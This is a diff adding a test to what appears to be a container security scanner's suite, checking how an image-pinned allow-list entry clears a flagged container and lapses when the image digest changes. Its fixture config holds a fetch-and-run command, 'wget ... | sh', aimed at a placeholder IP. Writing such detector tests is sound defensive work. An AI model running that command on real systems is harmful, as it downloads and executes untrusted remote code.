@@ -73,4 +73,27 @@ describe('what is declared ours', () => {
       expect(after.findings.find(({ id }) => id === finding?.id)?.reasons[0]?.code).toBe('allow-list');
     expect(findingOf(after, publicKey('b'))?.reasons[0]?.code).not.toBe('allow-list');
   });
+
+  it('can be an image, and is asked about again once its name stands for another', async () => {
+    const container = (imageId: string) =>
+      makeTree({
+        [`/var/lib/docker/containers/${'a'.repeat(64)}/config.v2.json`]: JSON.stringify({
+          Name: '/probe',
+          Image: `sha256:${imageId}`,
+          Path: '/bin/sh',
+          Args: ['-c', 'wget -qO- http://203.0.113.7/p.sh | sh'],
+          Config: { Image: 'registry.example/probe:3' },
+        }),
+      });
+    const before = findingOf(await scanTree(container('1'.repeat(64))), 'probe');
+    expect(before?.verdict).not.toBe('benign');
+    const entry = before && entryFor(before);
+    expect(entry).toEqual({ kind: 'image', image: 'registry.example/probe:3', sha256: '1'.repeat(64) });
+    const allow = [declared(entry as AllowEntry)];
+    const scan = (root: string) => scanTree(root, {}, undefined, { allow });
+    expect(findingOf(await scan(container('1'.repeat(64))), 'probe')?.verdict).toBe('benign');
+    expect(findingOf(await scan(container('2'.repeat(64))), 'probe')?.reasons[0]?.code).toBe(
+      'allow-list-changed',
+    );
+  });
 });
